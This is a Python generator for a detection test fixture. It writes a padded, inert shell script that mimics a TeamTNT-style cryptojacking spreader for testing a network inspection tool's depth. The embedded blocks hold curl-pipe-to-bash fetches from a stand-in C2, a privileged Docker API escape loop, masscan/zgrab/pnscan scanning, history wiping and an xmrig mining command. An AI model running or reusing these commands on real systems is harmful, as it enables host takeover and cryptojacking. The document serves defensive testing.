#!/usr/bin/env python3
"""
gen_big.py - writes tests/tools/c2www/c2/big.sh, an INERT ~215 KB shell script
for firedamp's "script spread over many TCP segments" capture. Most of it is
harmless padding (comments and echo lines); three short blocks of indicator
lines sit deep inside, at byte offsets this prints, so a test can tell what an
inspection depth of N bytes should and should not find. Deterministic: the
same bytes on every run. The script it writes is never executed.

Usage: python3 gen_big.py > ../c2/big.sh
"""
import sys

HEAD = """#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www/src/gen_big.py): a large
# script mimicking a TeamTNT-style spreader, mostly padding. Never executed;
# every address in it is loopback (127.0.0.x) or documentation space.
"""

BLOCKS = {
    # after ~70 KB: past a 64 KB inspection depth
    70000: """C2=http://127.0.0.66
curl -s $C2/xmr.sh | bash
for ip in $(cat /tmp/.targets); do
    docker -H tcp://$ip:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c "curl -s $C2/d.sh | sh"
done
""",
    # after ~150 KB
    150000: """masscan -p2375,2376 198.51.100.0/24 --rate 10000 -oL /tmp/.targets
zgrab --senders 200 --port 2375 --http='/v1.16/version' --output-file=/tmp/.zg.json
pnscan -t512 -R '6f 73 3a' -W '2a 31 0d 0a' 198.51.100.0/24 6379 >/tmp/.redis
history -c
""",
    # after ~210 KB: near the end
    210000: """./xmrig -o stratum+tcp://198.51.100.20:3333 -u 47pPsmvpia2vWrGi4zB8QXxGRb7dG1oETJCxrRBqt59ggV991x1ErEBxBKMDbykhECmDzRL2QTBAH5NLufe1fknN5LPuLXm -p x --donate-level 1 --background
""",
}
END = 215000


def main():
    out = bytearray(HEAD.encode())
    marks = sorted(BLOCKS)
    n = 0
    while len(out) < END:
        if marks and len(out) >= marks[0]:
            m = marks.pop(0)
            sys.stderr.write("block at byte %d (%d bytes)\n" % (len(out), len(BLOCKS[m])))
            out += BLOCKS[m].encode()
            continue
        if n % 4 == 0:
            out += ("# section %05d: nothing happens here, this line only pads the file\n" % n).encode()
        else:
            out += ('echo "step %05d: checking component %d of the inert fixture" >/dev/null\n'
                    % (n, n % 97)).encode()
        n += 1
    out += b'echo "finished"\n'
    sys.stdout.buffer.write(out)


if __name__ == "__main__":
    main()
